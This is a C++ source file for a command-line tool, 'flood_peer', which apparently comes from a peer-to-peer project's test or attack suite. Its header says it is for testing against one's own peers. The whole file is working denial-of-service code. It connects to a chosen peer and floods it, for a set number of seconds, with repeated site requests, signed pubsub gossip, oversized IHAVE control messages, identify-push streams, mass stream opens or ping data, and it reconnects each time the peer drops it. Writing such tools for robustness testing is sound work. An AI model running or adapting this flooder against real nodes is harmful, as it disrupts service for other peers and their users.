// flood_peer ADDR KIND SECONDS: a proven peer that asks ADDR for as much of one kind of work as it
// can. Kinds: requests, gossip, control, pushes, streams, pings. For tests, against own peers only.
#include <charconv>

#include "base/os_runtime.h"
#include "base/task_scope.h"
#include "net/os_network.h"
#include "p2p/host.h"
#include "p2p/multi/varint.h"
#include "p2p/protocols/identify/identify.h"
#include "p2p/pubsub/limits.h"
#include "p2p/pubsub/rpc.h"
#include "wire/site_v2.h"

namespace goop::attacks {
namespace {

using p2p::ProtocolId;
using p2p::Stream;

constexpr std::size_t at_once = 32;  // streams that are opened
constexpr std::size_t block_bytes = 256 * 1024;
const ProtocolId site("/goop/site/2.0.0"), meshsub("/meshsub/1.1.0");

struct Flood {
  Runtime& runtime;
  p2p::Host& host;
  p2p::PeerId victim;
  Deadline until;
};

Task<Stream> open(Flood& flood, ProtocolId protocol) {
  std::vector<ProtocolId> wanted{std::move(protocol)};
  const p2p::OpenOptions options{.by = flood.until};
  co_return co_await flood.host.open(flood.victim, std::move(wanted), options);
}

// What comes back is taken, so that more can come.
Task<> swallow(Stream& stream) {
  for (;;) {
    const auto view = co_await stream.fill(Deadline::never());
    if (view.empty()) co_return;
    stream.consume(view.size());
  }
}

Bytes repeated(BytesView one) {
  Bytes block;
  while (block.size() < block_bytes) append(block, one);
  return block;
}

// `next` gives the next block to write.
Task<> pour(Flood& flood, ProtocolId protocol, std::function<Bytes()> next) {
  Stream stream = co_await open(flood, std::move(protocol));
  TaskScope reading(flood.runtime, "swallow");
  reading.spawn(swallow(stream), [](std::optional<Error>) {});
  std::exception_ptr thrown;
  try {
    while (flood.runtime.now() < flood.until.at) {
      const Bytes block = next();
      co_await stream.write(block, flood.until);
    }
  } catch (...) {
    thrown = std::current_exception();
  }
  co_await cleaning_up();
  co_await reading.close();
  stream.reset();
  if (thrown) std::rethrow_exception(thrown);
}

Task<> open_and_end(Flood& flood, ProtocolId protocol, Bytes said) {
  while (flood.runtime.now() < flood.until.at) {
    Stream stream = co_await open(flood, protocol);
    if (!said.empty()) co_await stream.write(said, flood.until);
    stream.close();
  }
}

Task<> open_many(Flood& flood, ProtocolId protocol, Bytes said) {
  TaskScope all(flood.runtime, "streams");
  for (std::size_t i = 0; i < at_once; ++i) {
    all.spawn(open_and_end(flood, protocol, said), [](std::optional<Error>) {});
  }
  co_await all.join();
}

// --- the kinds ---

Task<> requests(Flood& flood) {
  wire::SiteRequest wanted;
  wanted.path = wire::SitePath::parse("index.html").value();
  Bytes one;
  p2p::append_prefixed(one, as_bytes(wire::site_v2::encode_request(wanted)));
  std::function<Bytes()> next = [block = repeated(one)] { return block; };
  co_await pour(flood, site, std::move(next));
}

p2p::pubsub::Topic topic() { return p2p::pubsub::Topic::parse("goop.presence.v1").value(); }

Task<> gossip(Flood& flood) {
  std::function<Bytes()> next = [&flood, number = std::uint64_t{0}]() mutable {
    const p2p::pubsub::Subscription all[] = {{topic(), true}};
    Bytes rpcs = frame(all), body;
    for (std::size_t i = 0; i < p2p::limits::gossip_messages; ++i) {
      body.push_back(0x12);
      const auto message =
          p2p::pubsub::sign_message(flood.host.key(), ++number, topic(), Bytes(200));
      p2p::append_prefixed(body, message->wire);
    }
    p2p::append_prefixed(rpcs, body);
    return rpcs;
  };
  co_await pour(flood, meshsub, std::move(next));
}

Task<> control(Flood& flood) {
  p2p::pubsub::Control all;
  all.ihave.push_back({topic(), {}});
  const auto own = p2p::PeerId::from_key(flood.host.key().public_key());
  for (std::size_t i = 0; i < p2p::limits::gossip_ids; ++i) all.ihave[0].ids.emplace_back(own, i);
  std::function<Bytes()> next = [block = repeated(frame(all))] { return block; };
  co_await pour(flood, meshsub, std::move(next));
}

Task<> pushes(Flood& flood) {
  const auto own = p2p::Multiaddr::parse("/ip4/127.0.0.1/tcp/4001").value();
  const auto& key = flood.host.key();
  const p2p::Introduction self{key.public_key(), {own}, {site},
                               "flood",          "",    p2p::seal_peer_record(key, 1, {{own}})};
  Bytes said;
  p2p::append_prefixed(said, encode_identify(self, own));
  co_await open_many(flood, p2p::protocol::identify_push, std::move(said));
}

Task<> streams(Flood& flood) { co_await open_many(flood, p2p::protocol::identify, {}); }

Task<> pings(Flood& flood) {
  std::function<Bytes()> next = [] { return Bytes(block_bytes); };
  co_await pour(flood, p2p::protocol::ping, std::move(next));
}

using Kind = Task<> (*)(Flood&);
const std::map<std::string_view, Kind> kinds = {{"requests", requests}, {"gossip", gossip},
                                                {"control", control},   {"pushes", pushes},
                                                {"streams", streams},   {"pings", pings}};

Task<> run(Flood& flood, p2p::Multiaddr address, Kind kind) {
  or_raise(flood.host.start());
  std::size_t rounds = 0;
  while (flood.runtime.now() < flood.until.at) {  // who is closed comes again
    ++rounds;
    std::vector<p2p::Multiaddr> known{address.without_peer()};
    auto connecting = flood.host.connect(flood.victim, std::move(known), flood.until);
    const auto connected = co_await attempt(std::move(connecting));
    if (connected && rounds == 1) {
      fmt::print("ready\n");
      std::fflush(stdout);
    }
    if (connected) {
      auto flooding = kind(flood);
      (void)co_await attempt(std::move(flooding));
    }
    co_await flood.runtime.sleep_for(100ms);
  }
  fmt::print("rounds {}\n", rounds);
  co_await flood.host.stop(Deadline::after(flood.runtime.now(), 1s));
}

int main(std::span<const std::string_view> words) {
  unsigned seconds = 0;
  const auto address =
      words.size() == 3 ? p2p::Multiaddr::parse(words[0]) : fail(Errc::invalid, "three words");
  const auto kind = kinds.find(words.size() == 3 ? words[1] : "");
  if (!address || !address->peer_id() || kind == kinds.end() ||
      std::from_chars(words[2].data(), words[2].data() + words[2].size(), seconds).ec !=
          std::errc()) {
    fmt::print(stderr,
               "usage: flood_peer ADDR requests|gossip|control|pushes|streams|pings SECONDS\n");
    return 2;
  }
  OsRuntime runtime;
  net::OsNetwork network(runtime);
  crypto::Secret<32> seed;
  runtime.random(seed.mut());
  p2p::Host host(runtime, network, p2p::HostOptions(p2p::KeyPair::from_seed(seed)));
  Flood flood{runtime, host, *address->peer_id(),
              Deadline::after(runtime.now(), std::chrono::seconds(seconds))};
  TaskScope scope(runtime, "main");
  scope.spawn(run(flood, *address, kind->second), [](std::optional<Error> error) {
    if (error) fmt::print(stderr, "{}\n", *error);
  });
  runtime.run();
  return 0;
}

}  // namespace
}  // namespace goop::attacks

int main(int count, char** words) {
  const std::vector<std::string_view> given(words + 1, words + count);
  return goop::attacks::main(given);
}
